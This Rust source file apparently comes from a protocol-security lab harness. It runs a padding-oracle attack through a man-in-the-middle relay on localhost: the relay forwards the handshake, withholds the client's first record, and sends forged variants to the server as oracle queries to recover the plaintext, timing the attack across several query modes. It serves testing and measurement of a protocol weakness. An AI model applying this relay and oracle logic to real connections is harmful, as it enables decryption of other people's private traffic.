//! The attack over TCP: a client, a server and a relay between them, each on a thread of its own. The relay passes the
//! handshake on, holds the record of the first text back, asks the server about it, and then lets it through.

use std::collections::VecDeque;
use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::mpsc::{Sender, channel};
use std::thread::spawn;

use bytes::Bytes;
use mitm_proxy::strategies::padding_oracle::{Attack, Target};
use mitm_proxy::world::Reply;
use net::{Event, Observer};
use protocol::endpoint::{Command, Fact, Message, PortIndex, Side, Tick};
use protocol::layout::{Deframer, Frame, Layout};
use protocol::system::Setup;
use protocol::weakness::{Profile, Weakness};

use super::{MAC, Recovery, clock, csr, is_the_end_of};
use crate::live::{Deaf, Serving, runtime};

/// How the server is asked.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct Way {
    /// Without the weakness `no-framing`: as built a message is what one read returns, and two questions in one
    /// segment would be one.
    pub framed: bool,
    /// How many questions are without an answer at most.
    pub in_flight: usize,
}

impl Way {
    /// One after the other as built; the same where messages have lengths; and several at a time.
    pub const ALL: [Self; 4] = [
        Self { framed: false, in_flight: 1 },
        Self { framed: true, in_flight: 1 },
        Self { framed: true, in_flight: 16 },
        Self { framed: true, in_flight: 64 },
    ];

    /// The words in tables.
    pub fn name(self) -> String {
        let profile = if self.framed { "without no-framing" } else { "as built" };
        format!("{profile}, {} in flight", self.in_flight)
    }

    fn profile(self) -> Profile {
        let as_built = Profile::as_built(csr());
        if self.framed { as_built.without(Weakness::NoFraming) } else { as_built }
    }
}

/// Decrypt this text, which a client sends through the relay.
///
/// # Errors
/// A connection cannot be made, or breaks.
#[expect(clippy::disallowed_methods, reason = "the relay is a machine in the middle for real")]
pub fn attack(way: Way, text: &str) -> io::Result<Recovery> {
    let profile = way.profile();
    let server = Serving::start(csr(), profile, Deaf);
    let address = server.addresses.first().copied().ok_or(ErrorKind::AddrNotAvailable)?;
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let relay = listener.local_addr()?;
    let message = Message::text(text);
    let client = spawn(move || converse(profile, relay, message));
    let attacked = listener.accept().and_then(|(to_client, _)| {
        let layout = Arc::new((csr().layout)(profile));
        let client = Wire::new(to_client, layout.clone(), Side::Client)?;
        let server = Wire::new(TcpStream::connect(address)?, layout, Side::Server)?;
        Relay { client, server }.run(way.in_flight)
    });
    let acknowledged = client.join().unwrap_or_default();
    server.end();
    let (recovered, questions, time) = attacked?;
    let is_right = acknowledged && is_the_end_of(text, &recovered);
    Ok(Recovery { bytes: recovered.len(), questions, time, is_right })
}

/// Be a client that sends one message; whether it was acknowledged.
fn converse(profile: Profile, server: SocketAddr, message: Message) -> bool {
    let (tell, told) = channel();
    let endpoint = (csr().client)(Setup::lab(profile, 5, 1));
    let (say, commands) = tokio::sync::mpsc::channel(1);
    let said = say.try_send(Command::Send(message)).is_ok();
    drop(say);
    let observer = Box::new(Acknowledgements(tell));
    let addresses = vec![server.into()];
    let forever = std::future::pending();
    let session = net::connect(endpoint, addresses, commands, None, observer, forever);
    said && runtime().block_on(session).is_ok() && told.try_recv().is_ok()
}

/// Tells when messages are acknowledged.
struct Acknowledgements(Sender<()>);

impl Observer for Acknowledgements {
    fn on_event(&mut self, _: Tick, event: Event<'_>) {
        if let Event::Claimed(claim) = event
            && matches!(claim.fact, Fact::Acknowledged(_))
        {
            let _ = self.0.send(());
        }
    }
}

/// The machine in the middle.
struct Relay {
    client: Wire,
    server: Wire,
}

impl Relay {
    /// What was recovered, the questions that took, and the time.
    fn run(mut self, in_flight: usize) -> io::Result<(Bytes, u64, std::time::Duration)> {
        // The ladder of the handshake.
        for from in [Side::Client, Side::Server, Side::Server, Side::Client] {
            self.forward(from)?;
        }
        let record = self.client.next()?;
        let target = Target::of(&record).map_err(io::Error::other)?;
        let began = clock();
        let mut attack = Attack::new(&target, MAC);
        let questions = self.ask(&record, &target, &mut attack, in_flight)?;
        let time = began.elapsed();
        self.server.stream.write_all(&record.bytes)?;
        self.forward(Side::Server)?;
        Ok((attack.recovered(), questions, time))
    }

    fn forward(&mut self, from: Side) -> io::Result<()> {
        let (from, to) = match from {
            Side::Client => (&mut self.client, &mut self.server),
            Side::Server => (&mut self.server, &mut self.client),
        };
        let frame = from.next()?;
        to.stream.write_all(&frame.bytes)
    }

    /// Ask until there are no more questions; how many there were.
    fn ask(
        &mut self,
        record: &Frame,
        target: &Target,
        attack: &mut Attack,
        in_flight: usize,
    ) -> io::Result<u64> {
        let (mut asked, mut waiting) = (0, 0);
        let (mut questions, mut out) = (VecDeque::new(), Vec::new());
        loop {
            attack.questions(in_flight, &mut questions);
            for question in questions.drain(..) {
                out.extend(target.forge(record, &question).map_err(io::Error::other)?);
                asked += 1;
                waiting += 1;
            }
            if waiting == 0 {
                return Ok(asked);
            }
            self.server.stream.write_all(&out)?;
            out.clear();
            // One answer at least, and what else has come with it.
            let mut answer = Some(self.server.next()?);
            while let Some(frame) = answer {
                attack.answer(&Reply { segments: vec![frame.bytes], ..Reply::default() });
                waiting -= 1;
                answer = self.server.frames.pop_front();
            }
        }
    }
}

/// One end of the wire, as the relay sees it.
struct Wire {
    stream: TcpStream,
    deframer: Deframer,
    buffer: Vec<u8>,
    frames: VecDeque<Frame>,
}

impl Wire {
    fn new(stream: TcpStream, layout: Arc<Layout>, side: Side) -> io::Result<Self> {
        stream.set_nodelay(true)?;
        let deframer = Deframer::new(layout, PortIndex::default(), side);
        Ok(Self { stream, deframer, buffer: vec![0; 64 * 1024], frames: VecDeque::new() })
    }

    /// The next frame that comes.
    fn next(&mut self) -> io::Result<Frame> {
        loop {
            if let Some(frame) = self.frames.pop_front() {
                return Ok(frame);
            }
            let read = self.stream.read(&mut self.buffer)?;
            let bytes = self.buffer.get(..read).filter(|bytes| !bytes.is_empty());
            let segment = Bytes::copy_from_slice(bytes.ok_or(ErrorKind::UnexpectedEof)?);
            let mut frames = Vec::new();
            self.deframer.push(&segment, &mut frames);
            self.frames.extend(frames);
        }
    }
}
